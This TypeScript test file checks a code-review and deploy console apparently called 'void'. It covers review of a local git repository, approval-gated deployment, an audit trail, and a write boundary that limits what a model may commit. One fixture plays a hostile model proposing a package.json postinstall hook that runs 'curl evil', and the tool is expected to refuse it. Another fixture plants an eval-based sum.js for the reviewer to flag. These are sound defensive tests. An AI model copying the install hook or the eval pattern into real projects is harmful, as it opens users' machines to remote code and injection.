// The README's first screen, run as printed through the real `void` console (stdin mode) against a local git
// repository made here: `review HEAD~1` prints a review by the real review engine, a deploy goes through approval
// to a recorded local deployment (a tag and a line in the deployments log), and `audit verify` passes.
import { execFileSync, spawn } from 'node:child_process';
import { createServer } from 'node:http';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { EXAMPLE_YAML, REDIS_URL, uniqueId } from '../helpers/app.js';
import { tempTenantsFile } from '../helpers/deploy.js';
import { listenOnLoopback } from '../helpers/loopback.js';
import { openAiCompletion } from '../helpers/llm.js';

function makeRepo(): string {
  const dir = mkdtempSync(join(tmpdir(), 'void-local-'));
  const git = (...args: string[]) =>
    execFileSync('git', ['-C', dir, '-c', 'user.name=Tess', '-c', 'user.email=t@example.com', ...args]);
  git('init', '-q', '-b', 'main');
  writeFileSync(
    join(dir, 'sum.js'),
    'export function total(xs) {\n  let t = 0;\n  for (const x of xs) t += x;\n  return t;\n}\n',
  );
  git('add', 'sum.js');
  git('commit', '-q', '-m', 'Add total()');
  writeFileSync(join(dir, 'sum.js'), 'export function total(xs) {\n  return eval(xs.join("+"));\n}\n');
  git('commit', '-q', '-am', 'Shorter total()');
  return dir;
}

/** A console fed line by line: each line is written once the previous answer the test waits for has appeared. */
function startConsole(env: Record<string, string>) {
  const child = spawn(process.execPath, ['bin/void.mjs', 'console'], {
    env: {
      PATH: process.env.PATH ?? '',
      HOME: process.env.HOME ?? '/tmp',
      REDIS_URL,
      VOID_KEY_PREFIX: uniqueId('local'),
      ...env,
    },
    stdio: ['pipe', 'pipe', 'pipe'],
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (d) => (stdout += d));
  child.stderr.on('data', (d) => (stderr += d));
  const closed = new Promise<number | null>((resolve) => child.on('close', resolve));
  const waitFor = async (pattern: RegExp, timeoutMs = 30_000): Promise<RegExpExecArray> => {
    const until = Date.now() + timeoutMs;
    for (;;) {
      const match = pattern.exec(stdout);
      if (match) return match;
      if (Date.now() > until)
        throw new Error(`timed out waiting for ${pattern}\n--- stdout\n${stdout}\n--- stderr\n${stderr}`);
      await new Promise((r) => setTimeout(r, 100));
    }
  };
  return {
    child,
    waitFor,
    say: (line: string) => child.stdin.write(`${line}\n`),
    end: () => child.stdin.end(),
    closed,
    out: () => stdout,
  };
}

describe('console demo with a local git repository', () => {
  it(
    'reviews HEAD~1, deploys through approval to a recorded local deployment, ' + 'and the audit trail verifies',
    async () => {
      const repo = makeRepo();
      const head = execFileSync('git', ['-C', repo, 'rev-parse', 'HEAD']).toString().trim();
      const c = startConsole({ VOID_LOCAL_REPO: repo });
      c.say('review HEAD~1');
      await c.waitFor(/✅ review done: HEAD~1: changes since HEAD~1/);
      c.say('deploy payments to production');
      const [, id = ''] = await c.waitFor(/🔐 Approval (ap-[a-z0-9]+): deploy payments to production/);
      c.say(`approve ${id}`);
      await c.waitFor(/you cannot approve it/);
      c.say('/as bob');
      c.say(`approve ${id}`);
      await c.waitFor(/it still needs 1 more approval from devops/);
      c.say('/as carol');
      c.say(`approve ${id}`);
      await c.waitFor(/✅ deploy done: payments to production \(main\): deployment 1 success/);
      c.say('/as dave');
      c.say('audit verify');
      c.end();
      expect(await c.closed).toBe(0);
      const out = c.out();
      // The review, from the real engine's offline rules, printed in the console.
      expect(out).toContain('### Void review: changes requested');
      expect(out).toMatch(/`sum\.js:2` risky\.eval/);
      expect(out).toContain('tests.missing');
      // The deployment is recorded in the local repository: a tag on HEAD and a line in the log.
      expect(
        execFileSync('git', ['-C', repo, 'rev-parse', 'void-deploy/production/1^{commit}']).toString().trim(),
      ).toBe(head);
      const log = readFileSync(join(repo, '.git', 'void', 'deployments.jsonl'), 'utf8')
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as Record<string, unknown>);
      expect(log[0]).toMatchObject({ type: 'deployment', id: 1, environment: 'production', ref: 'main', sha: head });
      expect(log.at(-1)).toMatchObject({ type: 'status', id: 1, state: 'success' });
      expect(out).toMatch(/dave@acme> audit verify\nvoid> Audit trail of acme verified: \d+ record\(s\)/);
      // Nothing was written into the work tree.
      expect(execFileSync('git', ['-C', repo, 'status', '--porcelain']).toString()).toBe('');
    },
    90_000,
  );

  it('reviews a branch against the current branch, and says plainly when a revision does not exist', async () => {
    const repo = makeRepo();
    execFileSync('git', ['-C', repo, 'checkout', '-q', '-b', 'feature']);
    writeFileSync(join(repo, 'sum.test.js'), 'import { total } from "./sum.js";\n');
    execFileSync('git', ['-C', repo, 'add', 'sum.test.js']);
    execFileSync('git', ['-C', repo, '-c', 'user.name=T', '-c', 'user.email=t@e', 'commit', '-q', '-m', 'A test']);
    execFileSync('git', ['-C', repo, 'checkout', '-q', 'main']);
    const c = startConsole({ VOID_LOCAL_REPO: repo });
    c.say('review feature');
    c.say('review no-such-branch');
    c.end();
    expect(await c.closed).toBe(0);
    const out = c.out();
    expect(out).toMatch(
      /✅ review done: feature: branch feature \(compared with main\) reviewed: commented, 0 finding\(s\)/,
    );
    expect(out).toContain(
      'review failed after 1 attempt(s): local_git.unknown_revision: "no-such-branch" is not a commit, branch or tag',
    );
    expect(existsSync(join(repo, '.git', 'void', 'reviews'))).toBe(true);
  }, 90_000);

  it(
    'implements a ticket after approval as a commit on a new ' +
      'local branch void/<ticket>, leaving the checkout untouched',
    async () => {
      const repo = makeRepo();
      const head = execFileSync('git', ['-C', repo, 'rev-parse', 'HEAD']).toString().trim();
      const c = startConsole({ VOID_LOCAL_REPO: repo });
      c.say('implement PAY-7');
      const [, id = ''] = await c.waitFor(/🔐 Approval (ap-[a-z0-9]+): implement PAY-7 in local\//);
      c.say('/as bob');
      c.say(`approve ${id}`);
      const [done = ''] = await c.waitFor(
        /✅ implement done: .*PAY-7: committed ([0-9a-f]{7}) on the new local branch void\/pay-7[^\n]*/,
      );
      c.end();
      expect(await c.closed).toBe(0);
      expect(done).toContain('Your checkout (main) is untouched; look with: git log -p main..void/pay-7');
      const git = (...args: string[]) =>
        execFileSync('git', ['-C', repo, ...args])
          .toString()
          .trim();
      // The branch is one commit on top of where main was; main, HEAD and the work tree did not move.
      expect(git('rev-parse', 'void/pay-7^')).toBe(head);
      expect(git('rev-parse', 'HEAD')).toBe(head);
      expect(git('symbolic-ref', '--short', 'HEAD')).toBe('main');
      expect(git('status', '--porcelain')).toBe('');
      // Without a model and without JIRA: the plan document, inside the folders an agent may write.
      expect(git('show', '--name-only', '--format=%an <%ae>%n%s', 'void/pay-7').split('\n')).toEqual([
        'Void <void@localhost>',
        'PAY-7: no ticket text (no ticket system is configured)',
        '',
        'docs/void-plans/PAY-7.md',
      ]);
      expect(git('show', 'void/pay-7:docs/void-plans/PAY-7.md')).toContain('# PAY-7: no ticket text');
      expect(git('show', 'void/pay-7:sum.js')).toBe(git('show', 'main:sum.js'));
    },
    90_000,
  );

  it(
    'commits only what the write boundary allows when a model proposes ' +
      'more (no CI configuration, nothing outside src/ and test/)',
    async () => {
      const repo = makeRepo();
      // An OpenAI-compatible model server on loopback: it proposes a source file, a test, a CI workflow and a file at
      // the root.
      const proposed = {
        title: 'PAY-8: Sum with reduce',
        plan: ['Rewrite total() with reduce', 'Add a test'],
        files: [
          { path: 'src/sum.js', content: 'export const total = (xs) => xs.reduce((a, b) => a + b, 0);\n' },
          { path: 'test/sum.test.js', content: 'import { total } from "../src/sum.js";\n' },
          { path: '.github/workflows/deploy.yml', content: 'on: push\n' },
          { path: 'package.json', content: '{"scripts":{"postinstall":"curl evil"}}\n' },
        ],
      };
      const server = createServer((req, res) => {
        req.resume();
        req.on('end', () => {
          res.setHeader('content-type', 'application/json');
          res.end(JSON.stringify(openAiCompletion(JSON.stringify(proposed), 'test-model')));
        });
      });
      const base = await listenOnLoopback(server);
      const yaml = EXAMPLE_YAML.replace(
        '    # models:                      # docs/agents.md',
        `    models:\n      providers: [{ id: local, type: openai_compatible, model: test-model, baseUrl: ` +
          `"${base}/v1", keyRef: local-key, timeoutMs: 5000 }]\n    # models:                      # docs/agents.md`,
      );
      expect(yaml).toContain('type: openai_compatible');
      try {
        const c = startConsole({
          VOID_LOCAL_REPO: repo,
          VOID_TENANTS_FILE: tempTenantsFile(yaml),
          VOID_MODEL_KEYS: JSON.stringify({ 'local-key': 'sk-local-test-0123456789' }),
        });
        c.say('implement PAY-8');
        const [, id = ''] = await c.waitFor(/🔐 Approval (ap-[a-z0-9]+): implement PAY-8/);
        c.say('/as bob');
        c.say(`approve ${id}`);
        const [done = ''] = await c.waitFor(/✅ implement done: [^\n]*/);
        c.end();
        expect(await c.closed).toBe(0);
        expect(done).toContain('refused to write .github/workflows/deploy.yml, package.json');
        const files = execFileSync('git', ['-C', repo, 'show', '--name-only', '--format=', 'void/pay-8'])
          .toString()
          .trim()
          .split('\n');
        expect(files.sort()).toEqual(['src/sum.js', 'test/sum.test.js']);
        expect(execFileSync('git', ['-C', repo, 'status', '--porcelain']).toString()).toBe('');
      } finally {
        server.close();
      }
    },
    90_000,
  );
});
